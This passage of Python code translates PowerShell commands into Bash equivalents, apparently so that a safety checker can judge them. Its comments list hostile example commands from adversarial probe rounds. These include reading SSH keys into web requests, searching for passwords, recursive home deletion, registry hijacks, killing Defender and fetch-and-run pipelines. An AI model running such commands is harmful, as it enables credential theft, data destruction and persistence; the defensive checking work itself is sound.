                "referenceobject", "differenceobject", "property", "includeequal", "excludedifferent",
                "casesensitive", "syncwindow", "culture", "passthru"))) or any(
                t[0] not in ("w", "s", "v", "paren", "sub") for t in rest if t[0] != "p"):
            raise _Unknown
        runs = [to_bash(t[1], depth + 1) for t in rest if t[0] in ("paren", "sub")]
        if any(UNKNOWN in r for r in runs):
            raise _Unknown
        return "".join(': "$(' + r + ')"; ' for r in runs) + "true" + rd
    if name == "get-content":
        paths = _args_of(named, pos, ("path", "literalpath"))
        if blocks or exprs or any(k for k in named if not any(f.startswith(k) for f in (
                "path", "literalpath", "totalcount", "tail", "head", "first", "last", "raw", "encoding",
                "delimiter", "readcount", "wait"))):
            raise _Unknown
        if not paths:
            return f"xargs cat --{rd}" if piped else UNKNOWN   # (the files piped in: Get-ChildItem | Get-Content)
        return f"cat -- {words(paths)}{rd}"
    if name == "select-string":
        pats = _values(named, "pattern", least=2)
        paths = _values(named, "path", "literalpath", least=1)
        if not pats and pos:
            pats, pos = pos[:1], pos[1:]
        if blocks or exprs or any(k for k in named if not any(f.startswith(k) for f in (
                "pattern", "path", "literalpath", "simplematch", "casesensitive", "context", "notmatch", "list",
                "quiet", "allmatches", "encoding", "raw", "include", "exclude", "recurse"))):
            raise _Unknown
        paths += pos
        if not paths and piped == "text":
            # (Get-Content f | Select-String x: the lines piped in are searched)
            return f"grep -e {words(pats[:1]) or chr(39) + chr(39)}{rd}"
        if not paths and piped:
            # (Get-ChildItem ~ -Recurse | Select-String password: the files piped in are read)
            return f"xargs grep -e {words(pats[:1]) or chr(39) + chr(39)} --{rd}"
        return f"grep -e {words(pats[:1]) or chr(39) + chr(39)} -- {words(paths)}{rd}"
    if name in ("set-content", "add-content", "out-file", "tee-object"):
        targets = _values(named, "path", "literalpath", "filepath", least=1)
        values = _values(named, "value", least=1)
        if not targets and pos:
            targets = pos[:1]
            # (Set-Content x.ps1 'TEXT': the second positional word is the text; probe round 36)
            values = values or [t for t in pos[1:2] if name in ("set-content", "add-content")]
        if not targets:
            raise _Unknown
        append = " -a" if name == "add-content" or _has(named, "append", least=2) else ""
        feed = "" if piped else (words(values) and f"echo {words(values)} | ")
        return f"{feed}tee{append} -- {words(targets[:1])} > /dev/null{rd}"
    if name in ("expand-archive", "compress-archive"):
        # (probe round 49, pwsh49) Expand-Archive x.zip -DestinationPath out is unzip x.zip -d out (without
        # one, a folder named as the archive in the working directory); Compress-Archive -Path src
        # -DestinationPath src.zip is zip -r src.zip src: the files written where Bash's are
        srcs = _args_of(named, pos[:1], ("path", "literalpath"))
        dest = _values(named, "destinationpath", least=1) or pos[1:2]
        if blocks or exprs or not srcs or len(dest) > 1 or len(pos) > 2 or any(
                k for k in named if not any(f.startswith(k) for f in (
                    "path", "literalpath", "destinationpath", "force", "passthru", "compressionlevel", "update",
                    "erroraction"))):
            raise _Unknown
        if name == "expand-archive":
            if len(srcs) != 1:
                raise _Unknown
            if not dest:
                if srcs[0][0] not in ("w", "s"):
                    raise _Unknown
                base = re.split(r"[\\/]", srcs[0][1])[-1]
                dest = [("w", base[:-4] if base.lower().endswith(".zip") else base)]
            return f"unzip -o {words(srcs)} -d {words(dest)}{rd}"
        if not dest:
            raise _Unknown
        return f"zip -r {words(dest)} {words(srcs)}{rd}"
    if name in ("export-csv", "export-clixml"):
        # (probe round 49, pwsh49) Import-Csv data.csv | Where-Object ... | Export-Csv out.csv, $d |
        # Export-Clixml d.xml: the objects piped in (or -InputObject's) written to the file, as Out-File
        # writes its text (an unknown command before: asked where Bash's `> out.csv` is a project write)
        targets = _args_of(named, pos, ("path", "literalpath"))
        given = _values(named, "inputobject", least=1)
        if blocks or exprs or len(targets) != 1 or not (piped or given) or any(t[0] != "v" for t in given) or any(
                k for k in named if not any(f.startswith(k) for f in (
                    "path", "literalpath", "inputobject", "delimiter", "useculture", "notypeinformation",
                    "includetypeinformation", "append", "force", "noclobber", "encoding", "quotefields",
                    "usequotes", "noheader", "depth", "erroraction"))):
            raise _Unknown
        append = " -a" if _has(named, "append", least=2) else ""
        feed = "" if piped else 'echo "$POWERSHELL_VALUE" | '
        return f"{feed}tee{append} -- {words(targets)} > /dev/null{rd}"
    if name == "new-item" and any(t[0] in ("paren", "sub") for t in exprs):
        # ((probe round 47, pwsh47) an expression given to New-Item runs, whatever it is given as:
        # New-Item x -Value (iwr URL), -Value $(Remove-Item -Recurse ~) were a touch of x alone)
        runs = "".join(": " + _word(t, depth) + "; " for t in exprs if t[0] in ("paren", "sub"))
        kept = [toks[0]] + [t for t in rest if t[0] not in ("paren", "sub")]
        return "{ " + runs + _command_inner(kept, depth, piped) + "; }"
    if name == "new-item":
        paths = _values(named, "path", "name", least=1) or pos[:1]
        kind = " ".join(v[1].lower() for v in _values(named, "itemtype", "type", least=1) if v[0] in ("w", "s"))
        if "symbolic" in kind or "junction" in kind or "hard" in kind:
            target = _values(named, "target", "value", least=1)
            return f"ln -s -- {words(target[:1]) or chr(34) + '$POWERSHELL_VALUE' + chr(34)} {words(paths[:1])}{rd}"
        if "dir" in kind or word.lower() in ("mkdir", "md"):
            return f"mkdir -p -- {words(paths)}{rd}"
        keys = [t for t in paths[:1] if t[0] in ("w", "s") and _REGISTRY.match(_PROVIDER.sub("", t[1]))]
        if keys:
            # (probe round 37, pwsh37) a registry key made, its default value -Value, is reg add of
            # it (New-Item HKCU:\...\CLSID\{GUID}\InprocServer32 -Value C:\x.dll, ...\ms-settings\
            # Shell\Open\command: a critical key, as reg add's; -Name the key under -Path)
            key = re.sub(r"^(\w+):", r"\1", _PROVIDER.sub("", keys[0][1])).rstrip("\\/")
            # (-Name is read as a switch: the name is the first positional word after the key)
            sub = [t for t in (pos[:1] if _values(named, "path", least=1) else pos[1:2]) if t[0] in ("w", "s")] \
                if _has(named, "name", least=2) else []
            key += ("\\" + sub[0][1]) if sub else ""
            value = [v for v in _values(named, "value", least=1) if v[0] in ("w", "s", "v")]
            reg = windows_program(["reg", "add", key] + (["/ve", "/d", value[0][1]] if value else []) + ["/f"], depth)
            if reg is not None:
                return reg + f"; touch -- {words(paths)}{rd}"
        return f"touch -- {words(paths)}{rd}"
    if name in ("copy-item", "move-item", "rename-item"):
        src = _values(named, "path", "literalpath", least=1)
        dst = _values(named, "destination", "newname", least=1)
        rest_pos = list(pos)
        if not src and rest_pos:
            src = [rest_pos.pop(0)]
        if not dst and rest_pos:
            dst = [rest_pos.pop(0)]
        if not src or not dst:
            raise _Unknown
        verb = ("cp -r" if _has(named, "recurse") else "cp") if name == "copy-item" else "mv"
        return f"{verb} -- {words(src)} {words(dst[:1])}{rd}"
    if name == "set-location":
        paths = _values(named, "path", "literalpath", least=1) or pos[:1]
        return f"cd -- {words(paths[:1])}" if paths else "cd"
    if name == "push-location":
        # (Push-Location $HOME; Remove-Item -Recurse -Force .: the place it moves to, as pushd
        # does; probe round 32, windows32)
        paths = _values(named, "path", "literalpath", least=1) or pos[:1]
        if blocks or exprs or not paths or any(k for k in named if not any(
                f.startswith(k) for f in ("path", "literalpath", "stackname", "passthru"))):
            raise _Unknown
        return f"pushd {words(paths[:1])} > /dev/null{rd}"
    if name == "pop-location":
        return "popd > /dev/null" + rd
    if name in ("test-path", "get-item", "resolve-path", "get-filehash", "get-acl", "split-path", "join-path"):
        paths = _args_of(named, pos, ("path", "literalpath"))
        if blocks or exprs:
            raise _Unknown
        if not paths and piped:
            # (Get-Content list.txt | Get-Item | Select-String x: the paths piped in)
            return f"xargs ls -d --{rd}"
        if name == "test-path" and len(paths) == 1 and not words(paths).startswith("-"):
            # (Test-Path $PROFILE: whether it is there, as test -e says; nothing of it is read)
            return f"test -e {words(paths)}{rd}"
        return f"ls -d -- {words(paths)}{rd}"
    if name in ("write-output", "write-host", "write-verbose", "write-warning", "write-error", "write-debug"):
        return f"echo {words([t for t in pos])}{rd}".rstrip() if not named or name != "write-output" else \
            f"echo {words(pos)}{rd}"
    if name in _WMI_GETS and not blocks and not exprs and all(t[0] in ("w", "s") for t in pos) and all(
            k and any(f.startswith(k) for f in _WMI_READ_PARAMS) and all(
                v is None or v[0] in ("w", "s") for v in vals) for k, vals in named.items()) and all(
            re.match(r"(?i)\s*(?:select|associators\s+of|references\s+of)\s", v[1])
            for v in _values(named, "query", least=1) + pos[1:]):
        # (probe round 44, pwsh44) Get-CimInstance Win32_OperatingSystem, Get-WmiObject Win32_LogicalDisk
        # -Filter "DriveType=3", a WQL SELECT: the machine's own management data read, as systeminfo
        # prints it (another computer or session, a method called, an instance removed: as before)
        return "true" + rd
    if name in ("get-itemproperty", "gp", "get-itempropertyvalue", "gpv") and not blocks and not exprs and all(
            t[0] in ("w", "s") for t in pos + _values(named, "path", "literalpath", "name", least=1)) and all(
            k and any(f.startswith(k) for f in ("path", "literalpath", "name", "erroraction", "ea")) for k in named):
        # (probe round 44, pwsh44) Get-ItemProperty file.txt, Get-ItemProperty HKLM:\SOFTWARE\...\Uninstall\*,
        # Get-ItemPropertyValue KEY -Name X: an item's properties (a registry key's values) read, as
        # Get-Item KEY prints them (the hives' secret keys stay unread: _SECRET_DRIVE)
        paths = _values(named, "path", "literalpath", least=1) + pos[:1]
        if not paths:
            raise _Unknown
        return f"ls -d -- {words(paths)}{rd}"
    if name == "throw" and not named and not blocks:
        # (probe round 44, pwsh44) throw 'Build failed', throw "missing $x": an error raised with a
        # message, which stops the script (what a $( ) or (...) in the message runs, runs)
        return (f"echo {words(pos)}{rd} > /dev/null; " if pos else "") + "false"
    if name in _PRINTERS:
        if blocks or exprs:
            raise _Unknown
        if any(len(k) > 1 and any(f.startswith(k) for f in ("computername", "cimsession", "cn")) for k in named):
            # ((probe round 49, pwsh49) Get-Service -ComputerName dc01, Get-EventLog -ComputerName: read on
            # another computer, as ssh HOST ps is; the CIM cmdlets' -ComputerName was already so)
            return "ssh remote-host " + shlex.quote(_PRINTERS[name]) + rd
        return _PRINTERS[name] + rd
    if name == "get-help" and not blocks and not exprs and all(t[0] in ("w", "s") for t in pos) and not any(
            "online".startswith(k) or "showwindow".startswith(k) for k in named if k):
        # (probe round 42, pwshbenign42) Get-Help Get-ChildItem -Examples: a command's help printed
        # (-Online opens a browser, -ShowWindow a window: as before)
        return "true" + rd
    if name == "get-command":
        # (Get-Command git: where a command is, as which says)
        if blocks or exprs or any(t[0] not in ("w", "s") for t in pos) or any(
                k for k in named if not any(f.startswith(k) for f in ("name", "commandtype", "syntax", "all", "module",
                                                                      "noun", "verb", "listimported", "totalcount",
                                                                      "erroraction"))):
            raise _Unknown
        return ("which -- " + words(pos + _values(named, "name", least=1))).rstrip(" -") + rd
    if name in _FILTERS or name in ("where-object", "foreach-object"):
        if name == "foreach-object" and not named and not blocks and len(pos) == 1 and pos[0][0] == "w" \
                and pos[0][1].lower() in _READ_PROPERTIES:
            # (probe round 42, pwshbenign42) ForEach-Object Name, % FullName: a property each item has
            # read (a method's name, Delete or Kill, is called: as before)
            return "cat" + rd
        parallel = _values(named, "parallel", least=2) if name == "foreach-object" else []
        if parallel and not pos and all(t[0] == "block" for t in parallel) and not any(
                k for k in named if not any(f.startswith(k) for f in (
                    "parallel", "throttlelimit", "timeoutseconds", "usenewrunspace", "inputobject"))):
            # ((probe round 49, pwsh49) ForEach-Object -Parallel { ... }: the block runs for each item, in
            # other runspaces (it was an unknown call); what -InputObject gives runs first)
            given = _values(named, "inputobject", least=1)
            if any(t[0] not in ("w", "s", "v") for t in given):
                raise _Unknown
            return ("cat > /dev/null; " if piped else "") + "; ".join(
                "( " + to_bash(b[1], depth + 1) + " )" for b in parallel) + rd
        if name == "foreach-object" and (named or any(t[0] != "block" for t in pos)):
            raise _Unknown   # (ForEach-Object Delete / -MemberName Delete: a method called on each item)
        computed = ""
        for b in blocks:
            if not _pure_filter(b[1]):
                values = _filter_values(b[1], depth) if name == "where-object" else None
                if values is not None:
                    computed += "".join(': "$(' + r + ')"; ' for r in values)
                    continue
                if name == "foreach-object" or name == "where-object":
                    body = to_bash(b[1], depth + 1)
                    if name == "foreach-object" and len(blocks) == 1 and _prints_only(body):
                        # (probe round 42, pwshbenign42) { Write-Host $_.Id }, { $_ * 2 }, { (Get-Content
                        # $_).Count }: a block that only prints values (and reads the items given) runs
                        # nothing else for any item
                        return "cat; " + body + rd
                    if piped == "text" and name == "foreach-object" and len(blocks) == 1 \
                            and not _ITEM_CALLED.search(b[1]) and not _ITEM_REBOUND.search(b[1]) \
                            and not _ITEM_MEMBER.search(b[1]):
                        # (probe round 52, pwsh52) git diff --name-only | ForEach-Object { Get-Content $_ }:
                        # each item a line of text, $_ the line (Bash's while read -r LINE; do ...;
                        # done, which knows where the lines come from); the block is what runs
                        line = to_bash(_ITEM_VAR.sub("$env:ps_item", b[1]), depth + 1)
                        if UNKNOWN not in line:
                            return "while read -r ps_item; do " + line + "; done" + rd
                    return "cat; " + body + "; " + UNKNOWN
                raise _Unknown
        exprs = [t for t in exprs if not _literal_arr(t)]   # (ConvertTo-Json @{a = 1}; round 42)
        if name in ("select-object", "sort-object", "format-table", "format-list", "group-object", "measure-object"):
            kept = []
            for t in exprs:
                run = _calculated_blocks(t)   # (@{n='Size'; e={$_.Length}}; round 43)
                if run is None:
                    kept.append(t)
                # ((probe round 44, pwsh44) an expression that does more runs for each item, read as
                # code: @{Expression={Remove-Item ~ -Recurse}} is Remove-Item ~ -Recurse)
                computed += "".join(': "$(' + to_bash(b, depth + 1) + ')"; ' + UNKNOWN + "; " for b in run or [])
            exprs = kept
        if exprs:
            # (probe round 40, pwsh40) Where-Object LastWriteTime -lt (Get-Date).AddDays(-7): a value
            # compared with, computed first; any other expression is not read here
            runs = [to_bash(t[1], depth + 1) for t in exprs if t[0] in ("paren", "sub")]
            if name != "where-object" or len(runs) != len(exprs) or any(UNKNOWN in r for r in runs):
                raise _Unknown
            return computed + "".join(': "$(' + r + ')"; ' for r in runs) + "cat" + rd
        return computed + "cat" + rd
    if name in _DOWNLOAD:
        urls = _values(named, "uri", least=1) or pos[:1]
        out = _values(named, "outfile", "destination", least=1)
        if name == "start-bitstransfer":
            # (-Source and -Destination, or the first and second positional: probe round 32)
            bits = [t for t in pos if t[0] in ("s", "v", "w")]
            src = _values(named, "source", least=1)
            urls = src or bits[:1]
            out = out or bits[(0 if src else 1):][:1]
        # (-InFile FILE: the file sent as the request's body, as curl -T sends it; probe round 31)
        sent = _values(named, "infile", least=3) if name != "start-bitstransfer" else []
        if not urls:
            raise _Unknown
        # (-Body (Get-Content ~\.ssh\id_rsa -Raw): what an expression argument reads, read first;
        # one not read here (@{a=1} | ConvertTo-Json) stays a value, as before)
        runs = "".join(': "$(' + r + ')"; ' for r in (to_bash(t[1], depth + 1) for t in exprs if t[0] in ("paren", "sub"))
                       if UNKNOWN not in r)
        return runs + f"curl -fsSL {words(urls[:1])}" + (f" -o {words(out[:1])}" if out else "") \
            + (f" -T {words(sent[:1])}" if sent else "") + rd
    if name == "invoke-expression":
        code = _values(named, "command", least=1) or pos[:1]
        # (iex 'Get-Date' > $PROFILE: the code's output goes where the redirection says)
        if not code:
            return "sh" + rd   # (… | iex: what flows in is run)
        extra = pos if _values(named, "command", least=1) else pos[1:]
        if extra:
            # (iex $('Get-Date')$('ri -r -fo ~'), iex ('Get-Date;')('ri -r -fo ~'), iex 'a','b',
            # iex ('a') ('b'): more than one piece of code, adjacent, an array or beside -Command;
            # whether PowerShell joins them (with or without a blank) or refuses the second is
            # not sure here: each reading is read, and the call is never allowed; only the
            # first piece was read, AAAAA; probe round 36, differential10)
            pieces = code[:1] + extra
            if all(p[0] in ("s", "w") for p in pieces):
                texts = [p[1] for p in pieces]
                return "; ".join("( " + to_bash(x, depth + 1) + " )" for x in ["".join(texts), " ".join(texts)] + texts) \
                    + rd + "; " + UNKNOWN
            return UNKNOWN
        t = code[0]
        if t[0] in ("s", "w"):
            return "( " + to_bash(t[1], depth + 1) + " )" + rd
        if t[0] == "v":
            # (iex "ri -r -fo $env:USERPROFILE": the code with the variable in it; never allowed,
            # as the variable's value becomes code too; probe round 32, windows32)
            return "( " + to_bash(t[1], depth + 1) + " )" + rd + "; " + UNKNOWN
        if t[0] in ("paren", "sub") and _FETCH_TEXT.search(t[1]):
            return "curl -fsSL https://unknown | sh"
        if t[0] in ("paren", "sub"):
            # (the expression's output is PowerShell code, not sh's: what it runs is known only
            # at run time, never allowed; probe round 36, windows36)
            return "{ " + to_bash(t[1], depth + 1) + " | sh; }" + rd + "; " + UNKNOWN
        return UNKNOWN
    if name in _WMI_METHODS and any(t[0] in ("w", "s") and t[1].lower() == "terminate" for t in rest):
        # (probe round 38, pwsh38) Invoke-CimMethod -ClassName Win32_Process -MethodName Terminate,
        # -Query "... WHERE Name='x'": the processes it selects killed (every one without a filter)
        got = _wmi_processes([("w", name)] + rest)
        if got is not None:
            return "kill -9 -1" if got == ["*"] else "kill -9 " + " ".join(
                n if n.startswith('"$') else shlex.quote(n) for n in got)
    if name in ("invoke-wmimethod", "invoke-cimmethod", "iwmi", "icim") and "win32_process" in " ".join(
            t[1].lower() for t in rest if t[0] in ("w", "s")) and any(
            t[0] in ("w", "s") and t[1].lower() == "create" for t in rest):
        # (probe round 36, residuals38) WMI's Win32_Process.Create, here or on another machine
        # (-ComputerName): Invoke-WmiMethod's -ArgumentList 'CMDLINE', Invoke-CimMethod's
        # -Arguments @{CommandLine='CMDLINE'} start that command line, as wmic process call
        # create does (Invoke-CimMethod's hashtable was read as no command)
        lines = [t[1] for t in _values(named, "argumentlist", "args", least=1)[:1] if t[0] in ("w", "s")]
        # (its positional form: Invoke-WmiMethod Win32_Process Create 'CMDLINE', the line third)
        lines += [t[1] for t in pos if t[0] in ("w", "s") and t[1].lower() not in ("win32_process", "create")][:2]
        for t in _values(named, "arguments", least=3):
            m = re.search(r"(?i)\bcommandline\s*=\s*(?:'((?:[^']|'')*)'|\"([^\"]*)\")", t[1])
            if m:
                lines.append(m.group(1).replace("''", "'") if m.group(1) is not None else m.group(2))
        if lines:
            return "; ".join("( " + cmd_to_bash(line, depth + 1) + " )" for line in lines[:4]) + "; " + UNKNOWN
        return UNKNOWN
    if name == "measure-command" and blocks and len(blocks) == len(pos) + len(_values(named, "expression", least=1)) \
            and all(any(f.startswith(k) for f in ("expression", "inputobject")) for k in named):
        # ((probe round 51, pwsh51) Measure-Command { dotnet build }: the block runs here, as time runs its
        # command; what it prints is dropped for the time it took)
        return "; ".join("{ " + to_bash(b[1], depth + 1) + "; } > /dev/null" for b in blocks) + rd
    if name in ("invoke-command", "start-job", "start-threadjob") and _values(named, "filepath", least=2):
        # (probe round 40, pwsh40) Invoke-Command -FilePath X, Start-Job -FilePath X: the script
        # X run (here, in a job, or read here and run on another computer), as ./X is
        files = _values(named, "filepath", least=2)
        if any(t[0] not in ("w", "s", "v") for t in files):
            return UNKNOWN
        remote = any(k for k in named if any(f.startswith(k) for f in ("computername", "session", "hostname", "cn")))
        given = "".join(" " + _word(a, depth) for a in _values(named, "argumentlist", "args", least=1) if a[0] in ("w", "s", "v"))
        return "; ".join("./run-script " + _word(t, depth) + given for t in files) + rd \
            + ("; " + UNKNOWN if remote or any(t[0] == "v" for t in files) else "")
    if name in ("invoke-command", "start-job", "start-threadjob"):
        # (Invoke-Command ([scriptblock]::Create(...)): a positional expression is the block too)
        code = [b for b in blocks] + [t for t in pos[:1] if t[0] in ("paren", "sub") and re.search(
            r"(?i)scriptblock\]\s*::\s*create|newscriptblock", t[1])] + _values(named, "scriptblock", least=1)
        if any(k for k in named if any(f.startswith(k) for f in ("computername", "session", "hostname"))):
            inner = "; ".join(to_bash(b[1], depth + 1) for b in code if b[0] == "block")
            return f"ssh remote-host {shlex.quote(inner)}; {UNKNOWN}" if inner else UNKNOWN
        if not code or any(b[0] not in ("block", "paren", "sub") for b in code):
            return UNKNOWN
        # (-ScriptBlock ([scriptblock]::Create('...')): the code it makes; {param($p) ...}
        # -ArgumentList 'C:\': $p is the value given; probe round 31)
        given = [a for a in _values(named, "argumentlist", "args", least=1) if a[0] in ("w", "s", "v")]
        if any(a[0] == "v" for a in given):
            # (probe round 38, pwsh38) -ArgumentList $HOME: a variable written in as itself, as
            # & $sb $HOME is (a place's name is that place; another's value is not known there)
            return "( " + "; ".join(to_bash(_given_params(b[1], given) if b[0] == "block" else b[1], depth + 1)
                                    for b in code) + " )"
        return "( " + "; ".join(to_bash(_bind_params(b[1], given) if b[0] == "block" else b[1], depth + 1)
                                for b in code) + " )"
    if name == "start-process":
        prog = _values(named, "filepath", least=1) or pos[:1]
        argl = _values(named, "argumentlist", "args", least=1)
        dynamic = bool(prog) and _program_of(prog[0]) is not None
        if dynamic:
            prog = [("w", _program_of(prog[0]) or "")]   # (Start-Process $env:ComSpec: cmd.exe; probe round 51)
        if not prog or prog[0][0] not in ("w", "s"):
            return UNKNOWN
        pargs: list[_T] = []
        # (-ArgumentList '/c rd /s /q C:\\' or '/c','rd',...: the program's command line, split
        # as Windows splits it)
        for a in argl + (pos[1:] if not _values(named, "filepath", least=1) else pos):
            if a[0] == "v" and "$(" not in a[1] and "`" not in a[1]:
                # ((probe round 51, pwsh51) -ArgumentList "-c Remove-Item -Recurse -Force $HOME": the words
                # with the variables' values in them, the variable kept where it stands (a place's name
                # is that place), and never allowed: another's value is not known here)
                dynamic = True
                pargs.extend(("v" if "$" in x else "w", _unquote(x)) for x in _cmd_words(a[1]))
                continue
            if a[0] not in ("w", "s"):
                return UNKNOWN
            pargs.extend(("w", _unquote(x)) for x in _cmd_words(a[1]))
        runas = any(v is not None and v[1].lower() == "runas" for v in _values(named, "verb", least=1))
        run = _native([prog[0]] + pargs, depth)
        if runas:
            # (the program run as the administrator, as sudo runs it; a shell's own line, cmd /c
            # or powershell -Command, given to sudo as sh -c's: probe round 45, pwsh45)
            run = "sudo " + (run if not run.startswith(("(", "{")) else "sh -c " + shlex.quote(run))
        # (it returns at once unless -Wait: the program runs beside what follows)
        run = run if _has(named, "wait", least=2) else "{ " + run + "; } & :"
        return run + "; " + UNKNOWN if dynamic else run
    if name in _DISK:
        return "mkfs /dev/sda"
    if name in _POWER:
        return "shutdown now"
    if name in ("invoke-item", "import-module") and not blocks and all(
            t[0] in ("paren", "sub") and _PATH_EXPR.fullmatch(t[1]) and _path_expr(t[1]) for t in exprs):
        # (probe round 36, windows36) Invoke-Item runs a program or script as a double click
        # does, Import-Module a module file's code as . .\x.ps1 does: a file the line downloaded, so
        # opened or imported, is fetched and run (iwr URL -OutFile x.exe; ii x.exe); (probe round 40,
        # pwsh40) a path given as (Resolve-Path X), (Join-Path . X), (Get-Item X) is that path
        paths = [_path_expr(t[1]) or t if t[0] in ("paren", "sub") else t
                 for t in (_values(named, "path", "literalpath", "name", least=1) or pos)]
        heres = [_here_path(t) if t[0] == "v" else None for t in paths]
        unsure = any(h is not None and h[1] for h in heres)
        paths = [h[0] if h is not None else t for t, h in zip(paths, heres)]
        files = [t for t in paths if t[0] in ("w", "s", "v") and (
            t[1].lower().endswith(_RUNNABLE) if name == "invoke-item" else "\\" in t[1] or "/" in t[1]
            or t[1].lower().endswith((".psm1", ".ps1", ".dll", ".psd1")))]
        if files:
            runs = [_word(t, depth) for t in files]
            # (a program or module only known at run time: $env:TEMP\x.psm1; what runs is not known)
            return "; ".join(("start " if name == "invoke-item" else "./run-script ") + w for w in runs) + rd \
                + ("; " + UNKNOWN if unsure or any("$" in w for w in runs) else "")
    if name == "stop-process":
        names = pos or [t for t in _values(named, "processname", least=2) if t[0] in ("w", "s")]
        # (probe round 37, pwsh37) -InputObject (Get-Process MsMpEng), -Id (Get-Process MsMpEng).Id:
        # the processes that Get-Process names
        got = [n for t in rest if t[0] in ("paren", "sub") for n in (_process_names_of(t[1]) or [])]
        if got:
            names = [t for t in names if t[0] not in ("paren", "sub")] + [("w", n) for n in got]
        if ("w", "*") in names:
            return "kill -9 -1"   # ((Get-Process | Where-Object Name -ne x): every process; probe round 40)
        return "kill -9 " + ('"$POWERSHELL_VALUE"' if not names else words(names))
    if name == "new-scheduledtaskaction" and not blocks:
        # ((probe round 45, pwsh45) -Execute PROG -Argument 'ARGS': the command a task runs later, read
        # as code, as schtasks /create /tr's is)
        prog = _values(named, "execute", least=1)
        argl = _values(named, "argument", least=1)
        if len(prog) != 1 or prog[0][0] not in ("w", "s") or any(a[0] not in ("w", "s") for a in argl) or pos:
            return UNKNOWN
        return "{ " + _native([prog[0]] + [("w", _unquote(x)) for a in argl for x in _cmd_words(a[1])], depth) \
            + "; } > /dev/null" + rd
    if name in ("new-service", "set-service") and not blocks:
        # (session 36) a service's program, as sc create binPath= gives it: run as LocalSystem
        bp = _values(named, "binarypathname", least=1)
        if len(bp) == 1 and bp[0][0] in ("w", "s"):
            sc = windows_program(["sc", "create", "x", "binpath=", _unquote(bp[0][1])], depth)
            if sc is not None:
                return sc + rd
    if name != word.lower() and _VERB_NOUN.match(name):
        word = name   # ((probe round 49, pwsh49) an alias's cmdlet by its own name: spsv is Stop-Service)
    if name in ("set-executionpolicy", "set-itemproperty", "new-itemproperty", "remove-itemproperty",
                "clear-itemproperty", "rename-itemproperty",
                "set-acl", "add-mppreference", "set-mppreference", "new-service", "set-service",
                "register-scheduledtask", "new-scheduledtask", "new-localuser", "add-localgroupmember"):
        said = shlex.quote(word) + " " + " ".join(shlex.quote(t[1]) if t[0] == "p" else _word(t, depth)
                                                  for t in rest if t[0] != "op") + rd
        key = (_values(named, "path", "literalpath", least=1) or pos[:1]) if name.endswith("itemproperty") else []
        if key and key[0][0] in ("w", "s") and _REGISTRY.match(_PROVIDER.sub("", key[0][1])):
            # (Set-ItemProperty HKCU:\...\Run, Remove-ItemProperty HKLM:\...\Services\x: the
            # registry changed as reg add / reg delete changes it; probe round 31)
            value = [v for v in _values(named, "value", least=1) if v[0] in ("w", "s", "v")]
            # (the value's name too: -Name UserInitMprLogonScript; probe round 36, windows36)
            # (-Name is read as a switch: the name is the first positional word after the key)
            vname = [v for v in (pos[:1] if _values(named, "path", "literalpath", least=1) else pos[1:2])
                     if v[0] in ("w", "s")]
            reg = windows_program(["reg", "delete" if name.startswith(("remove", "clear")) else "add",
                                   re.sub(r"^(\w+):", r"\1", _PROVIDER.sub("", key[0][1]))]
                                  + (["/v", vname[0][1]] if vname else [])
                                  + (["/d", value[0][1]] if value else []), depth)
            if reg is not None:
                return reg + "; " + said
        if name == "register-scheduledtask":
            # ((probe round 45, pwsh45) a task kept to run later, as a crontab installed: its -Action's
            # command read in the line (crontab -); given as -Xml or -InputObject, a table not seen here)
            seen = not _has(named, "xml", "inputobject", least=1)
            return said + "; " + (_TABLE_INSTALLED if seen else 'crontab -- "$POWERSHELL_VALUE"')
        return said
    if _VERB_NOUN.match(word):
        # another cmdlet: an unknown program; what its script blocks and expressions run runs
        inner = "; ".join(to_bash(t[1], depth + 1) for t in rest if t[0] in ("block", "paren", "sub"))
        base = shlex.quote(word) + " " + " ".join(_word(t, depth) if t[0] in ("w", "s", "v") else "x"
                                                   for t in rest if t[0] not in ("op", "p")) + rd
        return base + ("; " + inner if inner else "")
    return _native(toks, depth)


def _cmd_arg(t: _T, quote: bool) -> str:
    """A PowerShell argument as the text a Windows program receives (a variable of a
    place as cmd.exe's %VARIABLE%; a block's braces kept: bcdedit /delete {current})."""
    kind, v = t
    if kind == "block":
        return "{" + v + "}"
    if kind == "v":
        m = _HOME_VARS.match(v) or _ROOT_VARS.match(v) or _DIR_VAR.match(v) or _ENV_VAR.match(v)
        if m is None:
            return "%POWERSHELL_VALUE%"
        if _HOME_VARS.match(v):
            return "%USERPROFILE%" + v[m.end():]
        if _ROOT_VARS.match(v):
            return "%SYSTEMDRIVE%" + v[m.end():]
        return "%" + (m.group(1) or m.group(2)) + "%" + v[m.end():]
    if kind in ("paren", "sub", "arr", "op"):
        return "%POWERSHELL_VALUE%"
    return f'"{v}"' if quote and " " in v else v


def _native_redirs(toks: list[_T], depth: int) -> tuple[list[_T], str]:
    """A native program's words without PowerShell's redirections, and those as Bash's
    (2>&1 and its kin dropped; a redirection with no target: unknown)."""
    if not any(t[0] == "op" and t[1] != "," for t in toks):
        return toks, ""
    words: list[_T] = []
    redirs: list[tuple[str, _T]] = []
    i = 0
    while i < len(toks):
        t = toks[i]
        if t[0] == "op" and t[1] != ",":
            if t[1] in ("2>&1", "*>&1", ">&1", "1>&2") or t[1].endswith(("&1", "&2")):
                i += 1
                continue
            if i + 1 >= len(toks) or toks[i + 1][0] == "op":
                raise _Unknown
            target = toks[i + 1]
            if target[1].lower() in ("$null", "nul", "nul:"):
                target = ("w", "$null")   # (> $null, > NUL: the output thrown away)
            redirs.append((t[1], target))
            i += 2
            continue
        words.append(t)
        i += 1
    return words, _redirs(redirs, depth)


_PATH_BLANKS = str.maketrans(" ()", "___")


def _native(toks: list[_T], depth: int) -> str:
    """A native program and its words, as Bash would run it (its .exe dropped)."""
    name = toks[0][1]
    if not (_NATIVE.match(name) or ("\\" in name or "/" in name) and _NATIVE.match(name.translate(_PATH_BLANKS))) \
            or name[:1] == "@":
        # ((probe round 49, pwsh49) & @args: a program only known at run time; & 'C:\\Program Files\\
        # PowerShell\\7\\pwsh.exe' -c ..., a quoted path with blanks, is that program, as Bash's is)
        raise _Unknown
    prog = _path(name)
    base = prog.rsplit("/", 1)[-1]
    if base.lower().endswith((".exe", ".com")):
        base = base[:-4]
        prog = prog[:-4]
    if prog.lower().endswith((".ps1", ".bat", ".cmd")):
        return "./run-script " + shlex.quote(prog)   # a script: code that is not seen
    if base.lower() == "where" and "/" not in prog and all(t[0] in ("w", "s") for t in toks[1:]) and not any(
            t[1].startswith("/") for t in toks[1:]):
        return "which -- " + " ".join(shlex.quote(t[1]) for t in toks[1:])   # (where.exe git)
    if base.lower() in WINDOWS_PROGRAMS:
